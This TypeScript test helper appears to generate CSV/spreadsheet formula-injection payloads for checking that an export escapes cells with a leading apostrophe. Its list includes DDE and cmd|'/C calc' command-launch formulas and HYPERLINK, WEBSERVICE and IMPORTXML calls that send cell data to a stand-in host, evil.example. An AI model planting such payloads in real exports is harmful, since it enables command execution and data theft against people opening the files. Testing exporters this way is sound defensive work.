const BEFORE = ['', ' ', '\t', '\r', '\n', '\u00a0', '\ufeff', '"', ';', ',', 'a;', 'a\r\n'];
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const FORMULAS = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"click")',
  'SUM(1,2)',
  '1+1',
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  '1;=1+1',
  '1\r\n=1+1',
  '1","=1+1',
  "1'=1+1",
];

const all = FORMULAS.flatMap((formula) =>
  STARTS.flatMap((start) => BEFORE.map((before) => `${before}${start}${formula}`)),
);

/** So many texts that a spreadsheet might take for a formula, from all over the list. */
export const payloads = (count: number): string[] =>
  Array.from({ length: count }, (_, index) => {
    const [before, after] = [Math.floor((index * all.length) / count), all.length - 1];
    return all[Math.min(before, after)] ?? '';
  });

const AT_START = /^'(?=[\t\r\n]|\s*[=+\-@＝＋－＠])/;
const INSIDE = /([;\r\n])'(?=\s*[=+\-@＝＋－＠])/g;

/** A text without the `'` that the export is documented to add. */
export const undisarmed = (cell: string): string =>
  cell.replace(AT_START, '').replaceAll(INSIDE, '$1');

/** Whether a cell, or what another separator would make one of, begins like a formula. */
export const isArmed = (cell: string): boolean =>
  cell.split(/[;\r\n]/).some((part) => /^[=+\-@＝＋－＠]/.test(part.trim()));
